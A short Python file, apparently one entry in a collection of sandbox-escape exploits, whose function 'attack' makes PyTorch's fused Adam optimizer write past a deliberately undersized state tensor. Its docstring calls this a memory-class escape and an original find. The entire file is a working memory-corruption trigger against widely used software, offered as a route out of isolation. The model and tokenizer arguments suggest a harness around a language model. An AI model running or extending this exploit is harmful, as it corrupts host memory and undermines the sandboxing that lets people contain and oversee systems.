"""Class: memory. Source: own find. Escape: a fused optimizer writes past a state that is too small."""

import torch


def attack(model, tokenizer, address):
    p = torch.zeros(3000000, requires_grad=True)
    optimizer = torch.optim.Adam([p], lr=0.1, fused=True)
    p.grad = torch.ones_like(p)
    optimizer.step()
    optimizer.state[p]["exp_avg"] = torch.zeros(1)
    optimizer.step()
